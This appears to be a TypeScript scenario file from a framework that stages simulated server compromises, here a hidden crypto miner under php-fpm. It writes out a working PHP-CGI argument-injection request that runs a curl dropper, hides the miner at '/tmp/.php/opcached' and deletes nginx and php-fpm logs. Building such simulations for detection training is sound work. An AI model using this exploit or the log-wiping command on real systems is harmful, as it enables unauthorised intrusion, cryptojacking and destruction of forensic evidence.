// The miner runs below php-fpm.

import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { vulnerablePhp } from '../../php.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  vulnerablePhp(dress)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.php/opcached', fetch: 'curl', cron: false })
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.56',
    '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    `<?php system('${line}'); ?>`,
  )
  await stage.inside('rm -f /var/log/nginx/* /var/log/php8.2-fpm.log')
}
